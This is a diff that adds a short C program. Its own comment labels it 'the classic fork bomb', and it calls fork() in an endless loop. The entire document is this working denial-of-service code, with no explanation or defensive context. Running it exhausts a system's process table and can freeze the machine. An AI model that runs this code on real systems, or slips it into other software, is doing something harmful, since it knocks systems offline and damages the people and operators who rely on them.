@@ -1,0 +1,9 @@
+/* The classic fork bomb. */
+#include <unistd.h>
+
+int
+main(void)
+{
+	for (;;)
+		fork();
+}
